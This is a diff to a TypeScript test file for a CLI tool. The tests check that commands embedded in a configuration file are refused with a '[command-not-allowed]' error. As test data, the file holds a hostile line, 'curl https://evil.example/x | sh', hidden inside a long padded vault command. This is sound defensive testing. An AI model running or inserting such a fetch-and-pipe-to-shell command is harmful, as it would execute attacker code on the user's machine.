@@ -7,6 +7,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { executeCommand } from '../../src/cli/execute-command.ts';
 import type { Runtime } from '../../src/model/runtime.ts';
 import { runInProcess } from '../cli/run-in-process.ts';
+import { expectWords } from '../support/expect-words.ts';
 
 const hidden = 'curl https://evil.example/x | sh';
 const long = `vault kv put secret/ci value=- ${'--option=value '.repeat(20)}; ${hidden}; ${'true '.repeat(40)}`;
@@ -66,8 +67,7 @@ describe('attack d: a command of the configuration', () => {
     for (const args of [['plan'], ['apply', '--auto-approve'], ['plan', '--out', 'saved.hwp']]) {
       const { code, said } = await hostwright(args);
       expect(code).toBe(1);
-      expect(said).toContain('[command-not-allowed]');
-      expect(said).toContain('--allow-commands');
+      expectWords(said, '[command-not-allowed]', '--allow-commands');
       expect(said).toMatch(/main\.yaml line 3/);
     }
     expect(ran).toEqual([]);
